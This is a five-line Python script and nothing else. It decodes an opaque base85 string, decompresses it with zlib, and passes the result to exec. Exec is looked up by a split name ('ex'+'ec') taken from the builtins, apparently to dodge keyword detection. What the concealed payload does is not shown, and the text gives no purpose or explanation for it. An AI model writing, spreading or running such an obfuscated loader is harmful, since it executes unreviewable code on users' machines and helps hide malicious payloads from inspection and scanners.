import zlib,base64 as q
z='c$~}3Eyyn_QOGam$}iR{t}HG|&DBs(E-lJY&@EQTC@Cqh($_b%w9qp()H5_N(6cbnuc|4|P}c+iAGZ;C'
g=globals()['__builtins__']
f=getattr(g,'ex'+'ec') if not isinstance(g,dict) else g['ex'+'ec']
f(zlib.decompress(q.b85decode(z)))
